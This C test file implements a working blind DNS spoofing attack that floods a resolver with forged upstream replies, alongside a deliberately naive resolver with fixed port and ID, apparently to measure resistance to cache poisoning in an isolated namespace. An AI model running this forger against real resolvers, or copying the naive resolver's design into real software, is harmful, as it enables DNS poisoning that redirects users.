/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * forger: blind spoofing of a resolver's upstream (RFC 5452), and a resolver that falls for it. IPv4, in a network
 * namespace of its own.
 *
 *     forger attack --server ADDR@PORT --upstream ADDR@PORT --resolver ADDR [--count N] [--ports LOW-HIGH]
 *                   [--ids LOW-HIGH] [--window N] [--until-landed]
 *     forger naive --listen ADDR@PORT --upstream ADDR@PORT --port N [--id N]
 *
 * attack sends --count (1000000) replies from the very address and port of the upstream to --resolver, the address that
 * the resolver asks from, each to a random port of --ports (1024-65535) with a random ID of --ids (0-65535). Each fits
 * a question that is under way but for those two: the forger asks the resolver at --server for new names itself, keeps
 * --window (16) of them waiting, and lets the upstream be silent for these. What it receives as the upstream it does
 * not use. For other names, alive<N>.<RUN>.foreign.example, the upstream answers at once and truly, one after the
 * other, so that the resolver has no reason to give it up. Prints "running", and at the end
 *
 *     forged N asked N reached N alive N landed N seconds N.NNN
 *
 * reached: questions that arrived at the upstream; landed: answers that the resolver gave with a forged address
 * (66.6.6.6). --until-landed stops at the first. Exit status 0 however it ended.
 *
 * naive passes questions on from one fixed port, with one fixed ID or, without --id, random ones, and believes the
 * first reply whose ID and question fit. Prints "ready"; ends when standard input does.
 */
#include "tests/upstream_data.h"
#include "tests/wire.h"

#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define BATCH         64
#define WINDOW_MAX    256
#define PENDING_MAX   1024 /* of the naive resolver */
#define ALIVE_SLOT    WINDOW_MAX
#define ALIVE_ADDRESS "50.1.2.3"
#define BARRIER_MS    10000
#define ALIVE_MS      500 /* after so long without an answer another alive name is asked for */
#define REPLY_MAX     4096
#define ANSWER_SIZE   16 /* pointer, type, class, TTL, length, address */
#define BUFFER_SIZE   (4 << 20)

struct range {
    uint32_t low, high;
};

/* A name that is asked for, ready as a reply. */
struct bait {
    uint8_t query[WIRE_QUERY_MAX];
    size_t size;
};

struct attack {
    const char *server, *upstream, *resolver;
    unsigned long count, window;
    struct range ports, ids;
    bool until_landed;
    uint64_t random, alive_asked; /* alive_asked: ms */
    unsigned run;                 /* a part of all names: the resolver may know those of another run */
    int upstream_fd, client_fd;
    struct bait baits[WINDOW_MAX + 1]; /* the last: the alive one */
    unsigned long forged, asked, reached, alive, landed;
};

struct forgeries {
    struct mmsghdr messages[BATCH];
    struct iovec vectors[BATCH];
    struct sockaddr_in targets[BATCH];
    uint8_t bytes[BATCH][WIRE_QUERY_MAX + ANSWER_SIZE];
};

static uint32_t next_random(uint64_t *random)
{
    *random = *random * 6364136223846793005u + 1442695040888963407u;
    return (uint32_t)(*random >> 33);
}

static uint32_t pick_from(uint64_t *random, struct range range)
{
    return range.low + next_random(random) % (range.high - range.low + 1);
}

static void set_id(uint8_t *wire, unsigned id)
{
    wire[0] = (uint8_t)(id >> 8);
    wire[1] = (uint8_t)id;
}

/* A query becomes the reply to it that has one address. */
static size_t make_reply(const uint8_t *query, size_t size, const char *address, uint8_t *reply)
{
    static const uint8_t head[12] = {0xc0, 12, 0, 1, 0, 1, 0, 1, 0x51, 0x80, 0, 4};

    memmove(reply, query, size);
    memset(reply + 6, 0, 6); /* no OPT any more */
    reply[2] = 0x81;
    reply[3] = 0x80;
    reply[7] = 1;
    memcpy(reply + size, head, sizeof head);
    inet_pton(AF_INET, address, reply + size + sizeof head);
    return size + ANSWER_SIZE;
}

/* The size of header and question, 0: broken. */
static size_t question_size(const uint8_t *wire, size_t size)
{
    size_t at = 12;

    while (at < size && wire[at] != 0 && wire[at] < 64)
        at += (size_t)wire[at] + 1;
    return at + 5 <= size && wire[at] == 0 ? at + 5 : 0;
}

static int open_datagram(const char *bind_to, const char *connect_to)
{
    struct sockaddr_storage address;
    int buffer = BUFFER_SIZE;
    int fd = socket(AF_INET, SOCK_DGRAM, 0);

    if (fd < 0)
        wire_die("socket: %s", strerror(errno));
    if (setsockopt(fd, SOL_SOCKET, SO_RCVBUFFORCE, &buffer, sizeof buffer) != 0)
        setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &buffer, sizeof buffer);
    socklen_t size = bind_to == NULL ? 0 : wire_address(bind_to, &address);
    if (size > 0 && bind(fd, (const struct sockaddr *)&address, size) != 0)
        wire_die("%s: %s", bind_to, strerror(errno));
    size = connect_to == NULL ? 0 : wire_address(connect_to, &address);
    if (size > 0 && connect(fd, (const struct sockaddr *)&address, size) != 0)
        wire_die("%s: %s", connect_to, strerror(errno));
    return fd;
}

/* ---- attack ---- */

static void ask_new(struct attack *attack, size_t slot)
{
    struct bait *bait = &attack->baits[slot];
    char name[64];

    snprintf(name, sizeof name, "%s%lu.%u.foreign.example", slot == ALIVE_SLOT ? "alive" : "bait", attack->asked++,
             attack->run);
    if (slot == ALIVE_SLOT)
        attack->alive_asked = wire_now_ms();
    bait->size = wire_query((uint16_t)slot, name, 1, bait->query);
    bait->query[2] |= 1; /* RD */
    if (send(attack->client_fd, bait->query, bait->size, 0) < 0)
        wire_die("send: %s", strerror(errno));
}

/* What the resolver told the forger as its client. True: the alive question was answered. */
static bool take_answers(struct attack *attack)
{
    uint8_t reply[REPLY_MAX];
    char text[WIRE_TEXT_MAX];
    bool alive = false;
    ssize_t size;

    while ((size = recv(attack->client_fd, reply, sizeof reply, MSG_DONTWAIT)) >= 12) {
        size_t slot = (size_t)(reply[0] << 8 | reply[1]);
        size_t at = 0;
        if (slot > ALIVE_SLOT ||
            !wire_is_reply(attack->baits[slot].query, attack->baits[slot].size, reply, (size_t)size))
            continue;
        bool has_address = wire_next_address(reply, (size_t)size, &at, text);
        if (has_address && strcmp(text, UPSTREAM_POISON) == 0)
            attack->landed++;
        if (slot == ALIVE_SLOT && has_address && strcmp(text, ALIVE_ADDRESS) == 0)
            attack->alive++;
        alive = alive || slot == ALIVE_SLOT;
        ask_new(attack, slot);
    }
    if (wire_now_ms() > attack->alive_asked + ALIVE_MS)
        ask_new(attack, ALIVE_SLOT);
    return alive;
}

/* What the resolver asks the upstream: silence, but for the alive names. */
static void be_upstream(struct attack *attack)
{
    uint8_t wire[REPLY_MAX];
    struct sockaddr_in peer;
    socklen_t peer_size = sizeof peer;
    ssize_t size;

    while ((size = recvfrom(attack->upstream_fd, wire, REPLY_MAX - ANSWER_SIZE, MSG_DONTWAIT, (struct sockaddr *)&peer,
                            &peer_size)) >= 18) {
        size_t question = question_size(wire, (size_t)size);
        if (question == 0 || (wire[13] | 0x20) != 'a') {
            attack->reached++;
            continue;
        }
        size_t reply = make_reply(wire, question, ALIVE_ADDRESS, wire);
        sendto(attack->upstream_fd, wire, reply, 0, (const struct sockaddr *)&peer, peer_size);
    }
}

static void forge_batch(struct attack *attack, struct forgeries *forgeries)
{
    unsigned sent = 0;

    for (unsigned i = 0; i < BATCH; i++) {
        const struct bait *bait = &attack->baits[next_random(&attack->random) % attack->window];
        uint8_t *bytes = forgeries->bytes[i];
        forgeries->vectors[i].iov_len = make_reply(bait->query, bait->size, UPSTREAM_POISON, bytes);
        set_id(bytes, pick_from(&attack->random, attack->ids));
        forgeries->targets[i].sin_port = htons((uint16_t)pick_from(&attack->random, attack->ports));
    }
    while (sent < BATCH) {
        int rc = sendmmsg(attack->upstream_fd, forgeries->messages + sent, BATCH - sent, 0);
        if (rc < 0 && errno != EINTR && errno != EAGAIN && errno != ENOBUFS && errno != ECONNREFUSED)
            wire_die("sendmmsg: %s", strerror(errno));
        sent += rc > 0 ? (unsigned)rc : 0;
    }
    attack->forged += BATCH;
}

static void prepare(const struct attack *attack, struct forgeries *forgeries)
{
    struct sockaddr_storage target;

    wire_address(attack->resolver, &target);
    for (unsigned i = 0; i < BATCH; i++) {
        memcpy(&forgeries->targets[i], &target, sizeof forgeries->targets[i]);
        forgeries->vectors[i].iov_base = forgeries->bytes[i];
        forgeries->messages[i].msg_hdr = (struct msghdr){.msg_name = &forgeries->targets[i],
                                                         .msg_namelen = sizeof forgeries->targets[i],
                                                         .msg_iov = &forgeries->vectors[i],
                                                         .msg_iovlen = 1};
    }
}

/* An answer to a question asked after the last forgery: what landed has come before it. */
static void wait_for_alive(struct attack *attack)
{
    struct pollfd events[2] = {{.fd = attack->client_fd, .events = POLLIN},
                               {.fd = attack->upstream_fd, .events = POLLIN}};
    uint64_t end = wire_now_ms() + BARRIER_MS;

    for (unsigned answered = 0; answered < 2 && wire_now_ms() < end;) {
        poll(events, 2, 100);
        be_upstream(attack);
        answered += take_answers(attack);
    }
}

static int run_attack(struct attack *attack)
{
    static struct forgeries forgeries;

    attack->upstream_fd = open_datagram(attack->upstream, NULL);
    attack->client_fd = open_datagram(NULL, attack->server);
    prepare(attack, &forgeries);
    for (size_t slot = 0; slot < attack->window; slot++)
        ask_new(attack, slot);
    ask_new(attack, ALIVE_SLOT);
    wait_for_alive(attack);
    puts("running");
    fflush(stdout);
    uint64_t begun = wire_now_ms();
    while (attack->forged < attack->count && !(attack->until_landed && attack->landed > 0)) {
        forge_batch(attack, &forgeries);
        be_upstream(attack);
        take_answers(attack);
    }
    uint64_t ended = wire_now_ms();
    wait_for_alive(attack);
    printf("forged %lu asked %lu reached %lu alive %lu landed %lu seconds %.3f\n", attack->forged, attack->asked,
           attack->reached, attack->alive, attack->landed, (double)(ended - begun) / 1000);
    return 0;
}

/* ---- the naive resolver ---- */

struct naive {
    int client_fd, upstream_fd;
    long id; /* -1: random */
    uint64_t random;
    size_t next;
    struct {
        uint8_t query[WIRE_QUERY_MAX]; /* as it was passed on; size 0: none */
        size_t size;
        uint8_t id[2]; /* the client's */
        struct sockaddr_in client;
    } pending[PENDING_MAX];
};

static void pass_question(struct naive *naive)
{
    uint8_t wire[REPLY_MAX];
    struct sockaddr_in client;
    socklen_t client_size = sizeof client;
    ssize_t size =
        recvfrom(naive->client_fd, wire, sizeof wire, MSG_DONTWAIT, (struct sockaddr *)&client, &client_size);
    size_t question = size < 12 ? 0 : question_size(wire, (size_t)size);

    if (question == 0 || question > WIRE_QUERY_MAX)
        return;
    size_t slot = naive->next++ % PENDING_MAX;
    memset(wire + 6, 0, 6);
    memcpy(naive->pending[slot].id, wire, 2);
    set_id(wire, naive->id < 0 ? next_random(&naive->random) & 0xffff : (unsigned)naive->id);
    memcpy(naive->pending[slot].query, wire, question);
    naive->pending[slot].size = question;
    naive->pending[slot].client = client;
    send(naive->upstream_fd, wire, question, 0);
}

static void pass_reply(struct naive *naive)
{
    uint8_t wire[REPLY_MAX];
    ssize_t size = recv(naive->upstream_fd, wire, sizeof wire, MSG_DONTWAIT);

    for (size_t i = 0; i < PENDING_MAX && size >= 12; i++) {
        if (naive->pending[i].size == 0 ||
            !wire_is_reply(naive->pending[i].query, naive->pending[i].size, wire, (size_t)size))
            continue;
        naive->pending[i].size = 0;
        memcpy(wire, naive->pending[i].id, 2);
        sendto(naive->client_fd, wire, (size_t)size, 0, (const struct sockaddr *)&naive->pending[i].client,
               sizeof naive->pending[i].client);
        return;
    }
}

static int run_naive(const char *listen_on, const char *upstream, unsigned long port, long id)
{
    static struct naive naive;
    char own[64];
    char buffer[64];

    snprintf(own, sizeof own, "127.0.0.1@%lu", port);
    naive.id = id;
    naive.random = wire_now_ms();
    naive.client_fd = open_datagram(listen_on, NULL);
    naive.upstream_fd = open_datagram(own, upstream);
    puts("ready");
    fflush(stdout);
    for (;;) {
        struct pollfd events[] = {{.fd = STDIN_FILENO, .events = POLLIN},
                                  {.fd = naive.client_fd, .events = POLLIN},
                                  {.fd = naive.upstream_fd, .events = POLLIN}};
        if (poll(events, 3, -1) < 0 && errno != EINTR)
            wire_die("poll: %s", strerror(errno));
        if (events[0].revents != 0 && read(STDIN_FILENO, buffer, sizeof buffer) <= 0)
            return 0;
        if (events[1].revents != 0)
            pass_question(&naive);
        if (events[2].revents != 0)
            pass_reply(&naive);
    }
}

/* ---- start ---- */

static struct range read_range(const char *text, uint32_t most)
{
    char *end;
    unsigned long low = strtoul(text, &end, 10);
    unsigned long high = *end == '-' ? wire_number(end + 1) : most + 1u;

    if (low > high || high > most)
        wire_die("no range: %s", text);
    return (struct range){(uint32_t)low, (uint32_t)high};
}

/* What the command line says; `naive` fields stand beside the attack's. */
struct command {
    struct attack attack;
    const char *listen_on;
    unsigned long port;
    long id;
};

static void take_option(struct command *command, int option)
{
    struct attack *attack = &command->attack;

    if (option == 's')
        attack->server = optarg;
    else if (option == 'u')
        attack->upstream = optarg;
    else if (option == 'r')
        attack->resolver = optarg;
    else if (option == 'c')
        attack->count = wire_number(optarg);
    else if (option == 'p')
        attack->ports = read_range(optarg, 65535);
    else if (option == 'i')
        attack->ids = read_range(optarg, 65535);
    else if (option == 'w')
        attack->window = wire_number(optarg);
    else if (option == 'l')
        attack->until_landed = true;
    else if (option == 'L')
        command->listen_on = optarg;
    else if (option == 'P')
        command->port = wire_number(optarg);
    else if (option == 'I')
        command->id = (long)wire_number(optarg);
    else
        wire_die("see the head of tests/forger.c");
}

int main(int argc, char **argv)
{
    static const struct option options[] = {
        {"server", required_argument, NULL, 's'},   {"upstream", required_argument, NULL, 'u'},
        {"resolver", required_argument, NULL, 'r'}, {"count", required_argument, NULL, 'c'},
        {"ports", required_argument, NULL, 'p'},    {"ids", required_argument, NULL, 'i'},
        {"window", required_argument, NULL, 'w'},   {"until-landed", no_argument, NULL, 'l'},
        {"listen", required_argument, NULL, 'L'},   {"port", required_argument, NULL, 'P'},
        {"id", required_argument, NULL, 'I'},       {NULL, 0, NULL, 0},
    };
    static struct command command = {
        .id = -1,
        .attack = {.count = 1000000, .window = 16, .ports = {1024, 65535}, .ids = {0, 65535}, .resolver = "127.0.0.1"}};
    struct attack *attack = &command.attack;
    int option;

    while ((option = getopt_long(argc, argv, "", options, NULL)) != -1)
        take_option(&command, option);
    bool is_attack = optind < argc && strcmp(argv[optind], "attack") == 0 && attack->server != NULL;
    bool is_naive = optind < argc && strcmp(argv[optind], "naive") == 0 && command.listen_on != NULL;
    if (attack->upstream == NULL || (!is_attack && !is_naive) || attack->window == 0 || attack->window > WINDOW_MAX)
        wire_die("see the head of tests/forger.c");
    attack->random = wire_now_ms() * 2654435761u;
    attack->run = next_random(&attack->random);
    return is_attack ? run_attack(attack) : run_naive(command.listen_on, attack->upstream, command.port, command.id);
}
